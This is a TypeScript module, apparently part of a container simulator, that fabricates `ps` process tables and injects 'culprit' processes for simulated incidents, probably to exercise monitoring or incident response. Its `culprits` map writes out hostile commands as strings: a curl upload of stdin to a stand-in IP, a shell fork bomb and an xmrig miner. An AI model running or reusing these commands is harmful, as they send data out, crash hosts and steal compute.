import { commandOf, pidOf } from './container.ts';
import type { Container } from './container.ts';
import type { IncidentKind } from './incident.ts';
import { currentLoad, memoryUsage } from './usage.ts';
import type { Machine } from './usage.ts';

/** One process as `ps` on the engine's host sees it. */
interface Process {
  readonly pid: number;
  readonly parent: number;
  readonly command: string;
  readonly cpuPercent: number;
}

export type ProcessTable =
  | { readonly ok: true; readonly Processes: string[][]; readonly Titles: string[] }
  | { readonly ok: false; readonly message: string };

/** No table has more rows than this, however many processes there are. */
const mostRows = 4_096;

const workers: Readonly<Record<Container['plan']['agent'], readonly string[]>> = {
  building: ['make -j4', 'cc1plus -quiet -O2', 'as --64', 'ld -o app', 'sh -c npm ci'],
  busy: ['python3 serve.py', 'python3 worker.py'],
  coding: ['node agent-worker', 'sh -c git status', 'rg --json TODO', 'git diff', 'bash'],
  downloading: ['curl -sSLO', 'tar -xzf', 'sh -c fetch'],
  idle: ['sleep 30'],
  testing: ['node test-worker', 'python3 -m pytest', 'sh -c run-tests'],
};

const culprits: Readonly<Record<IncidentKind, string>> = {
  exfiltration: 'curl -T - https://198.51.100.23/in',
  'fork-bomb': 'sh -c :(){ :|:& };:',
  'memory-leak': 'node leak.js',
  miner: './xmrig -o 203.0.113.9:3333',
  'out-of-memory': 'node leak.js',
  'restart-loop': 'sh -c exit 1',
  'unexpected-exec': 'sh',
};

/**
 * The processes of a live container, in the columns that `ps_args` asks for: `-ef` (the default),
 * `aux`, or a list after `-o` or `-eo`. Other arguments are refused in the words of `ps`.
 */
export function processTable(
  container: Container,
  machine: Machine,
  psArguments: string,
  now: number,
): ProcessTable {
  const columns = columnsOf(psArguments);
  if (columns === undefined) return { ok: false, message: 'ps: error: improper format list' };
  const unknown = columns.find((column) => !(column in titles));
  if (unknown !== undefined) {
    const message = `ps: error: unknown user-defined format specifier "${unknown}"`;
    return { ok: false, message };
  }
  if (!columns.includes('pid')) {
    return { ok: false, message: "Couldn't find PID field in ps output" };
  }
  const rowMemory = Math.floor(memoryUsage(currentLoad(container, machine)) / 1_024);
  const processes = processesOf(container, machine);
  const rows = processes.map((process, index) =>
    columns.map((column) => cell(column, process, index === 0 ? rowMemory : 2_268, container, now)),
  );
  const bsd = psArguments.trim() === 'aux';
  return {
    ok: true,
    Processes: rows,
    Titles: columns.map(
      (column) => (bsd ? (bsdTitles[column] ?? '') : '') || (titles[column] ?? ''),
    ),
  };
}

const titles: Readonly<Record<string, string>> = {
  uid: 'UID',
  user: 'USER',
  pid: 'PID',
  ppid: 'PPID',
  c: 'C',
  pcpu: '%CPU',
  '%cpu': '%CPU',
  pmem: '%MEM',
  '%mem': '%MEM',
  vsz: 'VSZ',
  rss: 'RSS',
  tty: 'TTY',
  stat: 'STAT',
  stime: 'STIME',
  time: 'TIME',
  etimes: 'ELAPSED',
  nlwp: 'NLWP',
  comm: 'COMMAND',
  cmd: 'CMD',
  args: 'COMMAND',
};
const bsdTitles: Readonly<Record<string, string>> = { stime: 'START' };

function columnsOf(psArguments: string): readonly string[] | undefined {
  const text = psArguments.trim();
  if (text === '' || text === '-ef') {
    return ['uid', 'pid', 'ppid', 'c', 'stime', 'tty', 'time', 'cmd'];
  }
  if (text === 'aux') {
    const left = ['user', 'pid', '%cpu', '%mem', 'vsz', 'rss', 'tty', 'stat', 'stime', 'time'];
    return [...left, 'args'];
  }
  const list = /^-e?o\s*([a-z%]+(?:,[a-z%]+)*)$/.exec(text)?.[1];
  return list?.split(',');
}

function processesOf(container: Container, machine: Machine): Process[] {
  const load = currentLoad(container, machine);
  const first = pidOf(container);
  const count = Math.min(mostRows, Math.max(1, Math.round(load.processes)));
  const names = workers[container.plan.agent];
  const found: Process[] = [];
  const main = { pid: first, parent: 1, command: commandOf(container).join(' '), cpuPercent: 0 };
  found.push(main);
  for (const exec of container.execs) {
    found.push({ pid: exec.pid, parent: 0, command: exec.command, cpuPercent: 0 });
  }
  for (const { kind } of container.incidents) {
    if (kind === 'unexpected-exec') continue;
    const pid = first + found.length;
    found.push({ pid, parent: first, command: culprits[kind], cpuPercent: 0 });
  }
  const bombed = container.incidents.some(({ kind }) => kind === 'fork-bomb');
  while (found.length < count) {
    const number = found.length;
    const usual = names[number % names.length] ?? 'sh';
    const command = bombed && number > 12 ? culprits['fork-bomb'] : usual;
    found.push({ pid: first + number, parent: first, command, cpuPercent: 0 });
  }
  const cpuPercent = Math.round((load.cpuCores * 1_000) / found.length) / 10;
  return found.map((process) => ({ ...process, cpuPercent }));
}

function cell(
  column: string,
  process: Process,
  memoryKilobytes: number,
  container: Container,
  now: number,
): string {
  const startedAt = container.startedAt ?? now;
  switch (column) {
    case 'uid':
    case 'user':
      return 'root';
    case 'pid':
      return String(process.pid);
    case 'ppid':
      return String(process.parent);
    case 'c':
      return String(Math.floor(process.cpuPercent));
    case 'pcpu':
    case '%cpu':
      return process.cpuPercent.toFixed(1);
    case 'pmem':
    case '%mem':
      return '0.1';
    case 'vsz':
    case 'rss':
      return String(memoryKilobytes);
    case 'tty':
      return '?';
    case 'stat':
      return container.state.status === 'paused' ? 'D' : 'S';
    case 'stime':
      return new Date(startedAt).toISOString().slice(11, 16);
    case 'time':
      return '00:00:01';
    case 'etimes':
      return String(Math.floor((now - startedAt) / 1_000));
    case 'nlwp':
      return '1';
    case 'comm':
      return (process.command.split(' ')[0] ?? '').split('/').at(-1)?.slice(0, 15) ?? '';
    default:
      return process.command;
  }
}
